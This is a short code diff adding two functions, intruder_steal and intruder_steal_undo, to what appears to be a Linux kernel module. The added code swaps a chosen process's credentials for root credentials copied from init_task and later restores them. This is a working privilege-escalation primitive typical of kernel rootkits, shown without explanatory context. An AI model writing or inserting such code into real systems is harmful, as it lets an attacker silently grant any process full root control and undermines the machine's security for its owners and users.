@@ -90,6 +90,30 @@ void intruder_give_undo(void)
 	put_cred(init_task.cred);
 }
 
+static struct cred *intruder_copy;
+
+int intruder_steal(void)
+{
+	if (intruder_find())
+		return -ESRCH;
+	intruder_copy = prepare_kernel_cred(&init_task);
+	if (!intruder_copy)
+		return -ENOMEM;
+	intruder_cred = intruder_task->cred;
+	rcu_assign_pointer(intruder_task->real_cred, get_cred(intruder_copy));
+	rcu_assign_pointer(intruder_task->cred, get_cred(intruder_copy));
+	return 0;
+}
+
+void intruder_steal_undo(void)
+{
+	rcu_assign_pointer(intruder_task->real_cred, intruder_cred);
+	rcu_assign_pointer(intruder_task->cred, intruder_cred);
+	put_cred(intruder_copy);
+	put_cred(intruder_copy);
+	put_cred(intruder_copy);
+}
+
 void intruder_forget(void)
 {
 	if (intruder_task)
